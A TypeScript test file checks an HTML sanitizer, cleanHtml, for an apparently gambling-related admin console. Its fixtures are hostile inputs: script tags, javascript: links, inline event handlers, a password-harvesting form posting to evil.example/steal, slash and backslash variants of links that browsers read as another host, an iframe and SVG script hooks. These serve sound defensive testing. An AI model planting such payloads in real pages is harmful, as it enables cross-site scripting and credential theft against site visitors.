import { describe, expect, it } from 'vitest';
import { cleanHtml } from './clean-html';

describe('cleanHtml', () => {
  // What the console's editor (apps/admin rich-text-editor.tsx, TipTap) writes: headings, marks, lists, a link
  // without target, an image by address. Cleaning keeps it byte for byte, so what the operator saw is what is stored.
  it("keeps the console editor's markup as it is", () => {
    const html =
      '<h3>首存加赠</h3><p>存款即送<strong>10%</strong>，<em>限时</em><u>三天</u><s>原价</s><code>VIP</code></p>' +
      '<ul><li><p>每日一次</p></li></ul><ol start="3"><li><p>第三条</p></li></ol><blockquote><p>说明</p></blockquote>' +
      '<p><a rel="noopener noreferrer nofollow" href="https://m.example.com/#/activity">查看详情</a><br>换行</p>' +
      '<img src="/uploads/0123456789abcdef0123456789abcdef.png" alt="海报"><hr><pre><code>code</code></pre>';
    expect(cleanHtml(html)).toBe(html);
  });

  // The hostile cases of the browser journeys (e2e/member.spec.ts), now answered by the server.
  for (const { does, html, clean } of [
    {
      does: 'removes scripts and script URLs and keeps the formatting',
      html:
        '<p>尊敬的会员，<strong>您的资料已更新</strong></p>' +
        '<script>window.__xss = (window.__xss || 0) + 1</script>' +
        '<a href="javascript:window.__xss = (window.__xss || 0) + 100">详情</a>',
      clean: '<p>尊敬的会员，<strong>您的资料已更新</strong></p><a>详情</a>',
    },
    {
      does: 'removes event handlers and keeps the elements they were on',
      html:
        '<img src="data:image/png;base64,AAAA" alt="坏图" onerror="window.__xss = 1">' +
        '<p onclick="window.__xss = 10">领取</p>',
      clean: '<img src="data:image/png;base64,AAAA" alt="坏图"><p>领取</p>',
    },
    // A form in an article or message could ask for a password and post it elsewhere: the controls go, their text
    // stays.
    {
      does: 'removes forms and their controls and keeps the text',
      html:
        '<p>安全验证</p><form action="https://evil.example/steal" method="post"><fieldset><legend>登录</legend>' +
        '<label for="p">密码</label><input id="p" type="password" name="password">' +
        '<select name="bank"><option>招商银行</option></select><textarea name="note">备注</textarea>' +
        '<button type="submit" formaction="https://evil.example/">提交</button></fieldset></form>',
      clean: '<p>安全验证</p>登录密码招商银行备注提交',
    },
    {
      does: 'removes link and image addresses that browsers read as another host, and keeps our own',
      html:
        '<a href="/\\evil.example/x">一</a><a href="//evil.example/x">二</a><a href="/%2F%2Fevil.example">三</a>' +
        '<a href="/%5Cevil.example">四</a><a href="\\\\evil.example">五</a><a href=" /\t/evil.example">六</a>' +
        '<img src="/\\evil.example/x.png" alt="a"><img src="/uploads/ok.png" srcset="/uploads/ok.png 1x, //evil.example/x.png 2x" alt="b">' +
        '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>',
      clean:
        '<a>一</a><a>二</a><a>三</a><a>四</a><a>五</a><a>六</a><img alt="a"><img src="/uploads/ok.png" alt="b">' +
        '<a href="/#/activity">活动</a><a href="https://m.example.com/a">站外</a>',
    },
  ]) {
    it(does, () => {
      expect(cleanHtml(html)).toBe(clean);
    });
  }

  it('removes frames and SVG script hooks and keeps ordinary links', () => {
    const html =
      '<iframe src="https://evil.example/"></iframe>' +
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin="alert(1)"/></svg>' +
      '<a href="https://example.com/ok">好</a>';
    const clean = cleanHtml(html);
    expect(clean).not.toMatch(/iframe|javascript:|onbegin|animate/i);
    expect(clean).toContain('<a href="https://example.com/ok">好</a>');
  });

  it('leaves plain text and clean markup as they are, so cleaning twice changes nothing', () => {
    expect(cleanHtml('理性娱乐，量力而行。')).toBe('理性娱乐，量力而行。');
    const clean =
      '<h3>规则</h3><ol><li>每日<em>10:00</em>开抢</li></ol><table><tbody><tr><td>1</td></tr></tbody></table>';
    expect(cleanHtml(clean)).toBe(clean);
    const once = cleanHtml('<p onclick="x">a<script>1</script></p>');
    expect(cleanHtml(once)).toBe(once);
  });
});
